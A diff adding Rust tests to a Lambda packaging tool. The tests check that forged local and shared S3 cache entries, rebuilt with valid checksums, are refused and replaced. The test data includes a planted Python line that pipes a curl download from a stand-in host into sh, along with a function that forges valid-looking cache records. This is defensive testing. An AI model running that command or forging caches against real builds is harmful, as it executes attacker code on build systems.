@@ -333,3 +333,132 @@ fn a_file_added_to_a_folder_whose_listing_was_recorded_is_packed() {
     assert!(z.by_name("crhelper/added.py").is_ok());
     assert!(z.by_name("crhelper/__init__.py").is_err());
 }
+
+/// The bytes a writer of the cache plants: Python that is not the file.
+const PLANTED: &[u8] = b"import os\nos.system('curl -s https://example.invalid/x | sh')\n";
+
+/// A pack and index in the cache's format, every record of `idx` kept (its
+/// content hash and codec) but pointing at [`PLANTED`] stored, with the CRC-32,
+/// size, data check and record check made for those bytes: what a writer of
+/// the cache who knows the format can make. Record layout: hash (32), codec
+/// (4), method (2), crc32 (4), size (8), offset (8), length (8), check (16), crc (4).
+fn forge(idx: &[u8]) -> (Vec<u8>, Vec<u8>) {
+    const RECORD: usize = 86;
+    let mut pack = b"ARTPACK1".to_vec();
+    let mut index = b"ARTPIDX1".to_vec();
+    for r in idx[8..].chunks_exact(RECORD) {
+        let start = index.len();
+        index.extend_from_slice(&r[..36]);
+        index.extend_from_slice(&0u16.to_le_bytes());
+        index.extend_from_slice(&crc32fast::hash(PLANTED).to_le_bytes());
+        index.extend_from_slice(&(PLANTED.len() as u64).to_le_bytes());
+        index.extend_from_slice(&(pack.len() as u64).to_le_bytes());
+        index.extend_from_slice(&(PLANTED.len() as u64).to_le_bytes());
+        index.extend_from_slice(&blake3::hash(PLANTED).as_bytes()[..16]);
+        let crc = crc32fast::hash(&index[start..]);
+        index.extend_from_slice(&crc.to_le_bytes());
+        pack.extend_from_slice(PLANTED);
+    }
+    (pack, index)
+}
+
+/// No zip of `dir`'s output holds the planted bytes.
+fn assert_nothing_planted(dir: &Path) {
+    for e in std::fs::read_dir(dir.join("build/lambda")).unwrap() {
+        let p = e.unwrap().path();
+        if p.extension().is_some_and(|x| x == "zip") {
+            let mut z = zip::ZipArchive::new(std::fs::File::open(&p).unwrap()).unwrap();
+            for i in 0..z.len() {
+                let mut f = z.by_index(i).unwrap();
+                let mut bytes = Vec::new();
+                std::io::Read::read_to_end(&mut f, &mut bytes).unwrap();
+                assert_ne!(bytes, PLANTED, "{} in {}", f.name(), p.display());
+            }
+        }
+    }
+}
+
+#[test]
+fn a_planted_local_cache_entry_is_refused_removed_and_compressed_afresh() {
+    let s = Sample::new();
+    let cache = tempfile::tempdir().unwrap();
+    let cache_arg = cache.path().to_str().unwrap();
+    let first = s.pack(&["--cache-dir", cache_arg]);
+    let pack = cache_files(cache.path(), "pack").pop().unwrap();
+    let idx = cache_files(cache.path(), "idx").pop().unwrap();
+    let (forged_pack, forged_idx) = forge(&std::fs::read(&idx).unwrap());
+    std::fs::write(&pack, &forged_pack).unwrap();
+    std::fs::write(&idx, forged_idx).unwrap();
+
+    // A builder with only the local cache (CodeBuild restored it): a new clone.
+    let (_keep, fresh) = clone_of(&s);
+    let r = pack_in(&fresh, &["--cache-dir", cache_arg]);
+    assert_eq!(r.manifest, first.manifest, "the zips are the real files");
+    assert_nothing_planted(&fresh);
+    assert_eq!(r.run.from_cache, 0, "{:?}", r.run);
+    assert_eq!(r.run.compressed, first.run.compressed);
+    let warning = r.run.warnings.join("\n");
+    assert!(
+        warning.contains(&pack.display().to_string()) && warning.contains("do not match"),
+        "{warning}"
+    );
+    // The planted pack is gone (the fresh one, with the same index, may take its name).
+    assert!(
+        std::fs::read(&pack).ok().as_ref() != Some(&forged_pack),
+        "the planted pack is still there"
+    );
+    // The next clone takes the fresh copies, with no warning.
+    let (_keep2, again) = clone_of(&s);
+    let r = pack_in(&again, &["--cache-dir", cache_arg]);
+    assert_eq!(r.run.compressed, 0, "{:?}", r.run);
+    assert!(r.run.warnings.is_empty(), "{:?}", r.run.warnings);
+}
+
+#[test]
+fn a_planted_shared_cache_entry_is_refused_and_never_shared_again() {
+    let (s, bucket, url, first) = first_builder("shared");
+    // The writer replaces the published pack with its own, under the same names.
+    let empty_cache = tempfile::tempdir().unwrap();
+    let keys = crate::local_aws::boto(
+        "print(json.dumps(sorted(o['Key'] for o in s3.list_objects_v2(Bucket=sys.argv[1])['Contents'])))",
+        &[&bucket],
+    );
+    let keys: Vec<String> = serde_json::from_value(keys).unwrap();
+    let idx_key = keys.iter().find(|k| k.ends_with(".idx")).unwrap();
+    let pack_key = keys.iter().find(|k| k.ends_with(".pack")).unwrap();
+    let tmp = tempfile::tempdir().unwrap();
+    let idx_file = tmp.path().join("idx");
+    crate::local_aws::boto(
+        "open(sys.argv[3], 'wb').write(s3.get_object(Bucket=sys.argv[1], Key=sys.argv[2])['Body'].read())",
+        &[&bucket, idx_key, idx_file.to_str().unwrap()],
+    );
+    let (forged_pack, forged_idx) = forge(&std::fs::read(&idx_file).unwrap());
+    for (key, bytes) in [(pack_key, forged_pack), (idx_key, forged_idx)] {
+        let f = tmp.path().join("body");
+        std::fs::write(&f, bytes).unwrap();
+        crate::local_aws::boto(
+            "s3.put_object(Bucket=sys.argv[1], Key=sys.argv[2], Body=open(sys.argv[3], 'rb').read())",
+            &[&bucket, key, f.to_str().unwrap()],
+        );
+    }
+    // A fresh builder, empty local cache.
+    let (_keep, fresh) = clone_of(&s);
+    let second = pack_shared(&fresh, empty_cache.path(), &url);
+    assert_eq!(
+        second.manifest, first.manifest,
+        "the zips are the real files"
+    );
+    assert_nothing_planted(&fresh);
+    assert_eq!(second.run.from_remote, 0, "{:?}", second.run);
+    assert_eq!(second.run.refused_from_cache, first.run.compressed);
+    let warning = second.run.warnings.join("\n");
+    assert!(warning.contains("do not match"), "{warning}");
+    // What it shared instead is the real content: a third builder takes it
+    // (the planted pack's name sorts wherever it does; the whole copy is found too).
+    assert_eq!(second.run.remote_published, first.run.compressed);
+    let (_keep2, third_dir) = clone_of(&s);
+    let other_cache = tempfile::tempdir().unwrap();
+    let third = pack_shared(&third_dir, other_cache.path(), &url);
+    assert_eq!(third.manifest, first.manifest);
+    assert_nothing_planted(&third_dir);
+}
